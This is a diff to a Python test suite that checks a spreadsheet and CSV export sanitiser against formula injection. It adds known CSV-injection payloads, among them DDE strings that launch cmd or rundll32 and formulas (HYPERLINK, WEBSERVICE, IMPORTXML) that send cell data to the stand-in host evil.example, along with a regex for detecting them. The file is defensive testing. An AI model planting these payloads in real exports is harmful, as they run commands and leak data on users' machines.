@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import zipfile
 from datetime import UTC, date, datetime
 from decimal import Decimal
@@ -13,6 +14,7 @@ from hypothesis import strategies as st
 from python_calamine import CalamineWorkbook
 
 from apps.core.exports import LEADS, csv_text, defuse, table_response, xlsx_bytes
+from tests.security.tally import trying
 
 FORMS = [
     "=1+1",
@@ -29,18 +31,40 @@ FORMS = [
     "＋1+1",
     "－1+1",
     "＠SUM(A1)",
+    # After OWASP's "CSV Injection" and the page of PayloadsAllTheThings.
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=HYPERLINK("https://evil.example/?"&A1,"look")',
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    '=IMAGE("https://evil.example/x.png")',
+    '=DDE("cmd";"/C calc";"x")',
+    "\t\t=1+1",
+    "\r\r=1+1",
+    "\x0b=1+1",
+    "\x0c=1+1",
+    "\u2060=1+1",
+    "\u202e=1+1",
+    "\u3000＝1+1",
+    "\xad=1+1",
+    "\0=1+1",
 ]
-PLACES = ["{}", "first line\n{}", "a\nb\n{}\nc"]
+# A line of its own, and a cell of its own where a spreadsheet parts cells otherwise.
+PLACES = [
+    *("{}", "first line\n{}", "a\nb\n{}\nc", "a;{}", "a\t{}", "a\r{}", 'a";{}'),
+]
+LIVE = re.compile(r"(?:^|[\n\r\t;])[\s\0\u200b\ufeff\u2060\u202e\xad]*[=+\-@＝＋－＠]")
 
 
 @pytest.mark.parametrize("form", FORMS)
 @pytest.mark.parametrize("place", PLACES)
 def test_no_text_can_be_read_as_a_formula(form, place):
-    said = defuse(place.format(form))
-
-    assert "'" + form in said
-    for line in said.split("\n"):
-        assert not line.strip("\u200b\ufeff\u00a0 \t\r").startswith(tuple(LEADS))
+    with trying("formulas"):
+        assert not LIVE.search(defuse(place.format(form)))
 
 
 @pytest.mark.parametrize("form", FORMS)
@@ -49,8 +73,9 @@ def test_a_csv_cell_is_defused_whatever_column_it_is_in(form):
 
     rows = list(csv.reader(io.StringIO(text, newline="")))
 
-    assert rows[1][1].lstrip().startswith("'")
-    assert rows[2][0].lstrip().startswith("'")
+    with trying("formulas", 2):
+        assert not LIVE.search(rows[1][1])
+        assert not LIVE.search(rows[2][0])
     assert rows[2][1] == 'quote " and, comma'
 
 
@@ -99,8 +124,9 @@ def test_a_sheet_read_again_says_the_same():
 def test_a_sheet_holds_texts_and_no_formulas(form):
     content = xlsx_bytes("people", ["a"], [[form]])
 
-    with zipfile.ZipFile(io.BytesIO(content)) as packed:
-        assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")
+    with zipfile.ZipFile(io.BytesIO(content)) as packed, trying("formulas"):
+        sheet = packed.read("xl/worksheets/sheet1.xml")
+        assert not re.search(rb"<f[ >]|<hyperlink", sheet)
 
 
 @pytest.mark.parametrize("name", ["a/b", "x" * 60, "people [1]", "history", "a:b*?"])
